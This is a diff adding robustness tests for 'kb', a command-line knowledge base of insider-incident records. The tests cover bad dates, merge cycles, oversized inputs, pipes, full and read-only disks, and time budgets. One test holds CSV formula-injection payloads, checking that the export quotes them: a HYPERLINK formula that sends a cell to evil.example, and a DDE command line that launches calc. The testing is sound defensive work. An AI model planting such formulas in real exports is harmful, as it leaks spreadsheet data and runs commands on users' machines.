@@ -35,7 +35,7 @@ from hypothesis import HealthCheck, given, settings, strategies as st
 
 from kb import KB
 from kb.cli import main
-from kb.storage.db import open_db
+from kb.storage.db import open_db, register_functions
 from kb.errors import KBError
 from kb.sources import files, vcdb
 from kb.storage.store import save_many
@@ -121,6 +121,28 @@ def gzip_bomb(size: int) -> bytes:
     return b"".join(parts)
 
 
+def many_page_pdf(pages: int) -> bytes:
+    """A PDF of `pages` pages that all draw one shared line of text (small however many pages)."""
+    stream = b"BT /F1 12 Tf 72 712 Td (An engineer deleted the production database.) Tj ET"
+    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>",
+               2: b"<< /Type /Pages /Kids [" + b" ".join(b"%d 0 R" % (5 + i) for i in range(pages))
+                  + b"] /Count %d >>" % pages,
+               3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+               4: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream)}
+    for i in range(pages):
+        objects[5 + i] = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
+                          b"/Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>")
+    out, offsets = bytearray(b"%PDF-1.4\n"), {}
+    for number in sorted(objects):
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % offsets[n] for n in sorted(objects))
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
+    return bytes(out)
+
+
 def jsonl_file(*records) -> bytes:
     return b"".join((r if isinstance(r, bytes) else json.dumps(r).encode()) + b"\n" for r in records)
 
@@ -147,6 +169,7 @@ CASES = [
     ("add-claims-starter", {"claim.md": b"---\nsource: starter\n---\nNot curated.\n"}, ["add", "{dir}/claim.md"], 1),
     ("add-folder", {"folder.txt/inner.txt": b"x"}, ["add", "{dir}/folder.txt"], 1),
     ("add-unknown-type", {"x.exe": b"MZ"}, ["add", "{dir}/x.exe"], 1),
+    ("add-pdf-too-many-pages", {"pages.pdf": many_page_pdf(2001)}, ["add", "{dir}/pages.pdf"], 1),
     ("extract-bad-gzip", {"page.html.gz": b"\x1f\x8b\x08\x00" + GARBAGE}, ["extract", "{dir}/page.html.gz"], 1),
     ("extract-gzip-bomb", {"bomb.html.gz": gzip_bomb(64 * 2**20)}, ["extract", "{dir}/bomb.html.gz"], 1),
     # bad ids
@@ -158,11 +181,15 @@ CASES = [
     ("edit-huge-records", {}, ["incident", "edit", "i1", "impact_records=" + "9" * 5000], 1),
     ("edit-inf-amount", {}, ["incident", "edit", "i1", "impact_amount=inf"], 1),
     ("merge-huge-id", {}, ["incident", "merge", "i1", "i99999999999999999999"], 1),
+    ("edit-negative-year", {}, ["incident", "edit", "i1", "year=-5"], 1),
+    ("edit-word-for-date", {}, ["incident", "edit", "i1", "date_start=yesterday"], 1),
+    ("edit-impossible-date", {}, ["incident", "edit", "i1", "date_end=2024-02-30"], 1),
     # bad options and option files
     ("queries-missing", {}, ["search", "--queries", "{dir}/missing.txt"], 1),
     ("queries-not-utf8", {"q.txt": "café sabotage\n".encode("latin-1")}, ["search", "--queries", "{dir}/q.txt"], 1),
     ("queries-folder", {"qdir/x": b""}, ["search", "--queries", "{dir}/qdir"], 2),
     ("search-k-zero", {}, ["search", "sabotage", "-k", "0"], 2),
+    ("search-too-many-words", {}, ["search", ("删库实习生篡改代码训练模型" * 200)[:1998]], 1),
     ("export-missing-dir", {}, ["export", "-o", "{dir}/missing/out.jsonl"], 1),
     ("export-onto-folder", {"out/x": b""}, ["export", "-o", "{dir}/out"], 1),
     ("export-csv-onto-file", {"incidents.csv": b"keep me"}, ["export", "--format", "csv", "-o", "{dir}/incidents.csv"], 1),
@@ -185,12 +212,31 @@ CASES = [
      ["import", "jsonl", "{dir}/x.jsonl"], 1),
     ("jsonl-deep", {"x.jsonl": b"[" * 100_000 + b"]" * 100_000 + b"\n"}, ["import", "jsonl", "{dir}/x.jsonl"], 1),
     ("jsonl-bad-after-good", {"x.jsonl": jsonl_file(DOC, b"[]")}, ["import", "jsonl", "{dir}/x.jsonl"], 1),
+    ("jsonl-merge-cycle", {"x.jsonl": jsonl_file({**INCIDENT, "merged_into": "test:two"},
+                                                 {"type": "incident", "key": "test:two", "merged_into": "test:one"},
+                                                 {**DOC, "incidents": [{"incident": "test:one"}]})},
+     ["import", "jsonl", "{dir}/x.jsonl"], 1),
+    ("jsonl-merged-into-itself", {"x.jsonl": jsonl_file({**INCIDENT, "merged_into": "test:one"})},
+     ["import", "jsonl", "{dir}/x.jsonl"], 1),
+    ("jsonl-line-too-long", {"x.jsonl": jsonl_file({**DOC, "text": "An intern deleted it. " * 800_000})},
+     ["import", "jsonl", "{dir}/x.jsonl"], 1),
     # bad configuration
     ("update-interval-text", {"sources.toml": b'[sources.rss]\ninterval_hours = "x"\n'}, ["update"], 4),
     ("update-bad-toml", {"sources.toml": b"[sources.rss\n"}, ["update"], 4),
     ("update-enabled-text", {"sources.toml": b'[sources.doj]\nenabled = "yes"\n'}, ["update"], 4),
     ("update-fetch-type", {"sources.toml": b'[fetch]\nmin_delay = "soon"\n'}, ["update"], 4),
     ("sources-interval-text", {"sources.toml": b'[sources.rss]\ninterval_hours = "x"\n'}, ["sources"], 1),
+    ("update-interval-inf", {"sources.toml": b"[sources.starter]\ninterval_hours = inf\n"}, ["update"], 4),
+    ("update-interval-huge", {"sources.toml": b"[sources.starter]\ninterval_hours = 1e20\n"}, ["update"], 4),
+    ("update-allow-not-an-address", {"sources.toml": b'[fetch]\nallow = ["not-an-ip"]\n'}, ["update"], 4),
+    ("scrape-allow-not-an-address", {"sources.toml": b'[fetch]\nallow = ["not-an-ip"]\n'}, ["scrape", "rss"], 1),
+    ("add-url-allow-not-an-address", {"sources.toml": b'[fetch]\nallow = ["not-an-ip"]\n'},
+     ["add", "http://127.0.0.1:9/page"], 1),
+    ("extract-url-allow-not-an-address", {"sources.toml": b'[fetch]\nallow = ["not-an-ip"]\n'},
+     ["extract", "http://127.0.0.1:9/page"], 1),
+    ("update-allow-not-text", {"sources.toml": b"[fetch]\nallow = [10]\n"}, ["update"], 4),
+    ("update-host-delay-text", {"sources.toml": b'[fetch.host_delays]\n"example.com" = "slow"\n'}, ["update"], 4),
+    ("update-workers-huge", {"sources.toml": b"[kb]\nworkers = 100000000\n"}, ["update"], 4),
 ]
 
 
@@ -514,6 +560,199 @@ def test_the_connection_goes_to_the_address_that_was_checked(site, monkeypatch):
     assert b"pinned" in response.content
     assert len(answers) == 1  # resolved once, for the check; the connection used that answer
     assert site.seen("/page")[-1].get("Host", site.seen("/page")[-1].get("host")) == f"rebind.test:{port}"
+
+
+# --- second pass: files that are not files, read-only disks, exports, cost per input ---------
+
+def run_kb(*args: str, cwd: Path | None = None, fsize: int | None = None, timeout: float = 60):
+    """The installed CLI in its own process: (exit code, stdout, stderr, seconds, peak resident MB).
+    `fsize` caps the size of any file it writes (a full disk, without filling one)."""
+    def limits():
+        if fsize is not None:
+            import resource
+            import signal
+
+            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the cap fails (EFBIG)
+            resource.setrlimit(resource.RLIMIT_FSIZE, (fsize, fsize))
+
+    started = time.perf_counter()
+    proc = subprocess.Popen([sys.executable, "-m", "kb.cli", *args], cwd=cwd, stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE, preexec_fn=limits, text=True)
+    try:
+        out, err = proc.communicate(timeout=timeout)
+    except subprocess.TimeoutExpired:
+        proc.kill()
+        raise AssertionError(f"kb {' '.join(args)[:200]} ran past {timeout} s") from None
+    seconds = time.perf_counter() - started
+    import resource
+
+    peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024  # the largest child so far
+    return proc.returncode, out, err, seconds, peak
+
+
+def test_a_named_pipe_or_a_device_is_refused_not_read(kb_copy):
+    folder = kb_copy.parent
+    os.mkfifo(folder / "pipe.txt")
+    os.mkfifo(folder / "pipe.jsonl")
+    (folder / "zero.txt").symlink_to("/dev/zero")
+    before = snapshot(kb_copy)
+    for args, said in ((["add", "pipe.txt"], "is a named pipe"), (["import", "jsonl", "pipe.jsonl"], "is a named pipe"),
+                       (["add", "zero.txt"], "is a device")):
+        code, out, err, _, _ = run_kb("--db", str(kb_copy), *args, cwd=folder, timeout=30)
+        assert code == 1 and error_lines(err) == [line for line in err.splitlines() if line], err
+        assert said in err and "Traceback" not in err, err
+    assert snapshot(kb_copy) == before
+
+
+def test_utf16_text_with_a_byte_order_mark_is_read(kb_copy):
+    path = kb_copy.parent / "note.txt"
+    path.write_bytes("An intern deleted the training data at Example Corp.\n\n实习生删除了训练数据。\n".encode("utf-16"))
+    result = kb(kb_copy, "add", str(path))
+    assert result.exit_code == 0, result.output
+    doc = KB(kb_copy, readonly=True).show(re.search(r"\bd(\d+)\b", result.output).group(0))
+    assert "实习生删除了训练数据" in doc["text"] and "intern deleted" in doc["text"]
+
+
+def _older_schema(path: Path, version: int) -> None:
+    from kb.storage.schema import MIGRATIONS
+
+    conn = sqlite3.connect(path, isolation_level=None)
+    register_functions(conn)
+    for number, script in enumerate(MIGRATIONS[:version], start=1):
+        conn.executescript(f"BEGIN; {script}; PRAGMA user_version = {number}; COMMIT;")
+    conn.close()
+
+
+def test_read_commands_never_migrate_an_older_schema(tmp_path):
+    from kb.storage.schema import MIGRATIONS
+
+    path = tmp_path / "old.db"
+    _older_schema(path, len(MIGRATIONS) - 1)
+    digest = hashlib.sha256(path.read_bytes()).hexdigest()
+    for args in (["stats"], ["stats", "--json"], ["show", "d1"], ["search", "x", "--mode", "keyword"], ["export"]):
+        result = kb(path, *args)
+        assert result.exit_code == 1 and "older than this kb" in result.output and "kb init" in result.output
+    assert hashlib.sha256(path.read_bytes()).hexdigest() == digest
+    assert kb(path, "init").exit_code == 0  # a write command upgrades it
+    assert kb(path, "stats", "--json").exit_code == 0
+
+
+def test_a_knowledge_base_on_a_read_only_disk_answers_read_commands(base_db, tmp_path):
+    if not shutil.which("unshare") or subprocess.run(
+            ["unshare", "-m", "sh", "-c", f"mount --bind -o ro {tmp_path} {tmp_path}"],
+            capture_output=True).returncode != 0:
+        pytest.skip("cannot mount a read-only folder here (unshare -m with mount --bind -o ro)")
+    shutil.copy(base_db, tmp_path / "kb.db")
+    script = (f"mount --bind -o ro {tmp_path} {tmp_path} && cd {tmp_path} && "
+              f"{sys.executable} -m kb.cli --db kb.db stats --json && echo ==== && "
+              f"{sys.executable} -m kb.cli --db kb.db search ByteDance --mode keyword --json")
+    done = subprocess.run(["unshare", "-m", "sh", "-c", script], capture_output=True, text=True, timeout=120)
+    assert done.returncode == 0, done.stderr
+    stats, hits = (json.loads(part) for part in done.stdout.split("====\n"))
+    assert stats["incidents"] >= 30 and "ByteDance" in hits[0]["title"]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_quoted(kb_copy):
+    import csv
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    page = kb_copy.parent / "formula.md"
+    page.write_text(f"---\ntitle: {formula}\n---\n+cmd|' /C calc'!A0 an intern deleted the training data.\n")
+    assert kb(kb_copy, "add", str(page)).exit_code == 0
+    out = kb_copy.parent / "export"
+    assert kb(kb_copy, "export", "--format", "csv", "-o", str(out)).exit_code == 0
+    cells = [cell for name in ("documents.csv", "incidents.csv")
+             for row in csv.reader((out / name).open(encoding="utf-8", newline="")) for cell in row]
+    assert "'" + formula in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or re.match(r"-[^\d]", c)]
+
+
+def test_an_export_that_cannot_be_written_keeps_the_previous_files(kb_copy):
+    folder = kb_copy.parent
+    out = folder / "export"
+    assert kb(kb_copy, "export", "--format", "csv", "-o", str(out)).exit_code == 0
+    before = {p.name: p.read_bytes() for p in out.iterdir()}
+    for args in (["export", "--format", "csv", "-o", str(out)], ["export", "-o", str(folder / "all.jsonl")],
+                 ["export", "--format", "iides", "-o", str(folder / "all.json")]):
+        code, _, err, _, _ = run_kb("--db", str(kb_copy), *args, fsize=4096)
+        assert code == 1 and len(error_lines(err)) == 1 and "Traceback" not in err, err
+    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
+    assert not (folder / "all.jsonl").exists() and not (folder / "all.json").exists()
+    assert not [p for p in folder.rglob("*.tmp")]
+
+
+@pytest.mark.parametrize("args", [["export", "--format", "iides"], ["export"], ["show", "i1", "--json"]],
+                         ids=["iides", "jsonl", "show"])
+def test_output_to_a_full_disk_is_one_error_line(kb_copy, args):
+    with open("/dev/full", "w") as full:
+        done = subprocess.run([sys.executable, "-m", "kb.cli", "--db", str(kb_copy), *args], stdout=full,
+                              stderr=subprocess.PIPE, text=True, timeout=60)
+    assert done.returncode == 1 and error_lines(done.stderr) == done.stderr.splitlines(), done.stderr
+    assert "No space left on device" in done.stderr
+
+
+def test_a_query_of_many_repeated_words_is_refused_by_its_word_count(base_db):
+    """Not by SQLite ("Expression tree is too large"): the cap names itself; under it, one LIKE per
+    distinct short Chinese word, however often it repeats."""
+    result = kb(base_db, "search", "--mode", "keyword", "删库 " * 500)
+    assert error_lines(result.output) == ["Error: query too long (500 words; at most 200)"]
+    assert isinstance(KB(base_db, readonly=True).search("删库 " * 199, mode="keyword", k=5).hits, list)
+
+
+# Budgets per input (README "Limits"): any document under the size caps is added, shown and
+# compared in bounded time and memory; any query under the caps answers in bounded time.
+# The figures asserted are loose (a loaded CI machine); bench/input_budget.py prints them.
+BUDGET_SECONDS = 10.0
+BUDGET_MB = 300
+TERMS = ["an intern tampered with the training code", "the engineer deleted the production database",
+         "a contractor stole source code", "前员工删库", "实习生篡改代码攻击模型训练", "the court sentenced him to 2 years"]
+
+
+@pytest.mark.slow
+@settings(max_examples=4, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(paragraphs=st.integers(1, 90_000), terms=st.lists(st.sampled_from(TERMS), min_size=1, max_size=4))
+def test_any_document_under_the_caps_is_added_shown_and_compared_within_budget(tmp_path_factory, paragraphs, terms):
+    folder = tmp_path_factory.mktemp("budget")
+    text = "\n\n".join(f"Paragraph {i}: {terms[i % len(terms)]}." for i in range(paragraphs))
+    page = folder / "page.md"
+    page.write_text("# A page of many paragraphs\n\n" + text[:4_900_000], encoding="utf-8")
+    db = str(folder / "kb.db")
+    for args in (["add", str(page)], ["show", "d1", "--json"], ["similar", "d1"]):
+        code, _, err, seconds, peak = run_kb("--db", db, *args, timeout=120)
+        assert code == 0, err
+        assert seconds < BUDGET_SECONDS and peak < BUDGET_MB, (args[0], page.stat().st_size, seconds, peak)
+
+
+QUERY_WORDS = ["删库", "实习生", "篡改", "代码", "训练", "模型", "商业秘密", "intern", "sabotage", "deleted",
+               "database", "source", "code", "stole", "logic", "bomb", "contractor", "wiped"]
+
+
+@pytest.fixture(scope="module")
+def query_worker(starter_db):
+    """A process that answers one hybrid search per line of stdin with its seconds and peak MB."""
+    code = ("import json, resource, sys, time\nfrom kb import KB\n"
+            f"kb = KB({str(starter_db)!r}, readonly=True)\nkb.search('warm up')\n"
+            "for line in sys.stdin:\n"
+            "    t = time.perf_counter()\n"
+            "    try:\n        kb.search(json.loads(line), k=10); error = None\n"
+            "    except Exception as exc:\n        error = str(exc)\n"
+            "    print(json.dumps([time.perf_counter() - t, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024,"
+            " error]), flush=True)\n")
+    proc = subprocess.Popen([sys.executable, "-c", code], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+    yield proc
+    proc.stdin.close()
+    proc.wait(timeout=30)
+
+
+@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(words=st.lists(st.sampled_from(QUERY_WORDS), min_size=1, max_size=200), spaced=st.booleans())
+def test_any_query_under_the_caps_answers_within_budget(query_worker, words, spaced):
+    query = (" " if spaced else "").join(words)[:2000]
+    query_worker.stdin.write(json.dumps(query) + "\n")
+    query_worker.stdin.flush()
+    seconds, peak, error = json.loads(query_worker.stdout.readline())
+    assert error is None or "too long" in error, error
+    assert seconds < 2.0 and peak < BUDGET_MB, (len(query), seconds, peak)
 
 
 # --- install and CI -------------------------------------------------------------------------
